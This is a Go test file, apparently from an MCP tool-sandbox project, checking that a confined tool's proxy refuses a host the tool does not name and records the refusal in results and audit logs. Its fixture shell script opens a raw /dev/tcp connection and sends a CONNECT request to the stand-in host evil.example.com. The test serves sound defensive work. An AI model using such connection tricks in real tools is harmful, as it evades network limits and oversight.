//go:build unix

package server

import (
	"os/exec"
	"strings"
	"testing"

	"github.com/packs-mcp/packs-mcp/internal/audit"
	"github.com/packs-mcp/packs-mcp/internal/sandbox"
)

// The question names each host, the program finds our proxy where it looks for one,
// and what the run was refused is in the result and in the log.
func TestNamedHosts(t *testing.T) {
	bash, err := exec.LookPath("bash")
	if err != nil {
		t.Skip("bash: there is none to speak with a proxy")
	}
	box := confined(t, sandbox.LevelFull)
	w := newWorld(t, `
-- caller/SKILL.md --
---
name: caller
description: Calls others.
---
-- caller/tools.json --
{"tools": [{"name": "ask", "description": "Asks.", "command": ["./ask.sh"], "policy": {"network": {"hosts": ["uploads.example.com:443", "API.example.com:443"]}}}]}
-- caller/ask.sh --
#!`+bash+`
at=${HTTPS_PROXY#http://}
exec 3<>/dev/tcp/${at%:*}/${at#*:}
printf 'CONNECT evil.example.com:443 HTTP/1.1\r\nHost: evil.example.com:443\r\n\r\n' >&3
read -r line <&3
echo "$line"
`, box)
	w.answer = decide("once")
	w.initialize()
	w.enable("caller")
	got := w.ok("caller__ask", map[string]any{})
	if out, _ := got["stdout"].(string); !strings.Contains(out, "403 Forbidden") {
		t.Errorf("the program heard %q, want 403", out)
	}
	if q := w.asked[len(w.asked)-1]; !strings.Contains(q, "may send to: api.example.com:443") || !strings.Contains(q, "may send to: uploads.example.com:443") ||
		!strings.Contains(q, "can send data to 2 hosts") {
		t.Errorf("the question does not name the hosts:\n%s", q)
	}
	const note = `"evil.example.com:443" was not reached: the tool does not name this host`
	if notes := strings.Join(texts(got["notes"]), "\n"); !strings.Contains(notes, note) {
		t.Errorf("notes %q, want %q", notes, note)
	}
	for _, e := range w.entries() {
		if e.Event != audit.EventRunEnd {
			continue
		}
		want := audit.Contact{Host: "evil.example.com:443", Refused: "the tool does not name this host", Times: 1}
		if e.Network != "hosts" || strings.Join(e.Hosts, " ") != "api.example.com:443 uploads.example.com:443" || len(e.Contacts) != 1 || e.Contacts[0] != want {
			t.Errorf("the log has network %s, hosts %q, contacts %+v; want hosts, both, and %+v", e.Network, e.Hosts, e.Contacts, want)
		}
		return
	}
	t.Error("the log has no end of the run")
}
